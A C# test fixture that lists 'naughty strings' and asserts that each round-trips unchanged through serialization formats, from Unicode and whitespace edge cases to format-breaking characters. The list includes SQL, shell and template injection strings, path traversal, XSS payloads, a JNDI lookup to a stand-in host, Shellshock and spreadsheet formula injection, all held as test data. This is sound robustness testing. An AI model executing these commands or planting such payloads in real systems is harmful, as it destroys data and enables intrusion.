using System.Globalization;
using System.Text;

namespace Parley.EndToEnd.Tests.BadInput;

/// <summary>Texts that programs are known to stumble over. Each must come out of the other end as it went in.</summary>
internal static class NaughtyStrings
{
    private static readonly string[] s_written =
    [
        // What other programs take for nothing, or for something else.
        "null", "NULL", "undefined", "None", "nil", "true", "FALSE", "NaN", "Infinity", "-Infinity", "0", "-0", "00", "007", "1e3", "1E400", "0x1F", "1,000.00", "1.0",
        "12345678901234567890", "0.1000000000000000055511151231257827", "+44 7700 900123", "2026-02-31", "31/02/2026", "MARCH1", "1-2", "yes", "No", "-", "--", "---", "...", "~",

        // Quotes, brackets and separators of JSON, XML, CSV, YAML.
        "'", "\"", "''", "\"\"", "'\"'", "\"\"\"", "`", "O'Example", "He said \"no\", then left", "a,b", "a;b", "a\tb", "a|b", ",,,", "\",\"", "=\"a\"", "{}", "[]", "{\"no\":\"WX-2\"}", "[null]",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{narrative}", "${BETA_URL}", "$(whoami)", "%BETA_URL%", "&", "&&", "&amp;", "&amp;amp;", "&lt;b&gt;", "&#0;", "&#x1F4A9;", "&nbsp;", "&x;",
        "<", ">", "<b>bold</b>", "</Narrative>", "<Narrative>", "<!-- comment -->", "-->", "<![CDATA[", "]]>", "]]", "]]>]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<?php exit ?>", "<!DOCTYPE a>",
        "# no comment", "- item", "key: value", "&anchor *alias", "!!binary x", "%YAML 1.2", "@at", "| pipe", "> fold",

        // Orders to a database, a shell, a browser, a spreadsheet, a formatter.
        "'; DROP TABLE exchanges; --", "1' OR '1'='1", "Robert'); DELETE FROM deliveries;--", "\\'; SELECT 1; --", "%' AND 1=1 --", "x' UNION SELECT NULL--", "SELECT * FROM [exceptions]",
        "; rm -rf /", "| cat /etc/passwd", "`reboot`", "$(touch /tmp/x)", "&& shutdown -h now", "> /dev/null 2>&1", "../../../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "\\\\server\\share", "C:\\new\\table",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "' onmouseover='alert(1)", "<svg/onload=alert(1)>", "<iframe src=//example.com>", "{{constructor.constructor('x')()}}",
        "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "%s%s%s%n", "%d", "%x%x%x", "%n%n%n%n", "%%", "%00", "%20", "%u0041", "\\", "\\\\", "\\\"", "\\n", "\\r\\n", "\\t", "\\0", "\\x00", "\\u0000", "\\uD83D", "\\ud83d\\ude00", "\\/",
        "http://a%@b/", "mailto:nobody@example.com", "${jndi:ldap://example.com/a}", "() { :; }; echo x", "Accept: */*\r\nX-Injected: yes", "Content-Length: 0\r\n\r\n",

        // Names of devices and of files.
        "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "con.txt", ".", "..", ".htaccess", "/dev/zero", "~root",

        // White space and line ends that must stay.
        " ", "   ", " leading", "trailing ", "  both  ", "in  the  middle", "\t", "\ttab", "tab\t", "\n", "\r", "\r\n", "\n\n", "line\nfeed", "carriage\rreturn", "both\r\nof them", "ends with one\n", "\nbegins with one", "a \n b", "\r\n\r\n",
        "mixed\nline\r\nends\r", "tab\tand\nline",

        // Accents, composed and not, and letters that change length with their case.
        "caf\u00e9", "cafe\u0301", "\u00c5ngstr\u00f6m", "A\u030angstro\u0308m", "Stra\u00dfe", "\u0130stanbul", "\u0131", "\ufb03", "\u01c5", "\u1e9e", "\u03a3\u03c2\u03c3", "Llanfair\u00adpwll", "\u0149", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
        "Z\u0335\u0321\u0347a\u0336\u0316l\u0337\u0330g\u0334\u0319o\u0338\u032c", "\u0301alone",

        // Other scripts.
        "\u041f\u0440\u0438\u043c\u0435\u0440", "\u03a0\u03b1\u03c1\u03ac\u03b4\u03b5\u03b9\u03b3\u03bc\u03b1", "\u4f8b\u5b50", "\u4f8b\u3048", "\uc608\uc2dc", "\u0e15\u0e31\u0e27\u0e2d\u0e22\u0e48\u0e32\u0e07", "\u0909\u0926\u093e\u0939\u0930\u0923", "\u0ba8\u0bbf", "\u1019\u103c\u1014\u103a\u1019\u102c", "\u10e5\u10d0\u10e0\u10d7",
        "\u6f22\u5b57\u304b\u306a\u30ab\u30ca", "\uff21\uff22\uff23\uff11", "\u00bd\u00bc\u2153", "\u2160\u2164", "\u0661\u0662\u0663", "\u096a\u096b",

        // Right to left, and marks that turn the direction.
        "\u05d3\u05d5\u05d2\u05de\u05d4", "\u0645\u062b\u0627\u0644", "abc \u05d0\u05d1\u05d2 def", "\u202eevil.exe", "\u202aembed\u202c", "\u2066isolate\u2069", "\u200f\u200e", "\u061c", "\ufdfd", "\ufdfa",

        // Emoji, alone and joined.
        "\ud83d\ude94", "\ud83d\udc6e\ud83c\udffd\u200d\u2640\ufe0f", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66", "\ud83c\uddec\ud83c\udde7", "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc77\udb40\udc6c\udb40\udc73\udb40\udc7f", "1\ufe0f\u20e3", "\u2603\ufe0f", "\u2764\ufe0e", "\ud83e\udd37\ud83c\udfff",

        // Characters beyond the first plane, private ones, and the last there is.
        "\ud800\udc00", "\ud835\udd38\ud835\udd39", "\ud840\udc0b", "\ud869\ude00", "\udb80\udc00", "\udbff\udffd", "\ue000\uf8ff", "\ufffd", "\ufffc", "\ufeff", "\ufeffbom", "mid\ufeffdle",

        // Looks like what it is not.
        "\u0405\u0441ript", "p\u0430ypal", "\u2044\u2215", "\u037e", "\u2019\u2018\u201c\u201d", "\u00ab\u00bb", "\u2013\u2014\u2212", "\u00d7", "\u2026", "\u00a3\u20ac\u00a5", "\u2028", "\u2029", "line\u2028separator", "\u0085", "next\u0085line",
    ];

    /// <summary>What every format can carry.</summary>
    public static IReadOnlyList<string> All { get; } = [.. s_written.Concat(Made()).Distinct(StringComparer.Ordinal)];

    /// <summary>What XML 1.0 has no way to say: control characters and the two code points that are no characters.</summary>
    public static IReadOnlyList<string> NotXml { get; } =
    [
        .. Enumerable.Range(0, 0x20).Where(c => c is not ('\t' or '\n' or '\r')).Select(c => $"a{(char)c}b"),
        "\0", "\u001b[31mred\u001b[0m", "a\ufffeb", "a\uffffb", "\b\b\b", "ends with\u0001",
    ];

    private static IEnumerable<string> Made()
    {
        // Each ASCII sign by itself, doubled, and at either end.
        foreach (char c in Enumerable.Range(0x21, 0x5E).Select(c => (char)c).Where(c => !char.IsAsciiLetterOrDigit(c)))
        {
            yield return $"{c}";
            yield return $"{c}{c}";
            yield return $"{c}middle{c}";
        }

        // Everything that Unicode calls a space or a mark without width, first, last and within.
        int[] unseen = [0xA0, 0xAD, 0x1680, 0x180E, .. Enumerable.Range(0x2000, 16), 0x202F, 0x205F, .. Enumerable.Range(0x2060, 5), 0x3000, 0x3164, 0xFE0F, 0xFFA0, 0xFEFF];
        foreach (int c in unseen)
        {
            yield return $"{(char)c}a{(char)c}b{(char)c}";
            yield return $"{(char)c}";
        }

        // Delete and the second set of control characters, which XML 1.0 can carry.
        for (char c = '\u007f'; c <= '\u009f'; c++)
        {
            yield return string.Create(CultureInfo.InvariantCulture, $"a{c}b");
        }

        // One character of each plane.
        for (int plane = 1; plane <= 16; plane++)
        {
            yield return char.ConvertFromUtf32((plane << 16) + 0x1234);
        }

        yield return new string('x', 100_000);
        yield return string.Concat(Enumerable.Repeat("\u00e9", 50_000));
        yield return string.Concat(Enumerable.Repeat("\ud83d\ude94", 25_000));
        yield return string.Concat(Enumerable.Repeat("<&>\"'", 10_000));
        yield return new StringBuilder("a").Append('\u0301', 5_000).ToString();
        yield return string.Concat(Enumerable.Repeat("line\r\n", 2_000));
    }
}
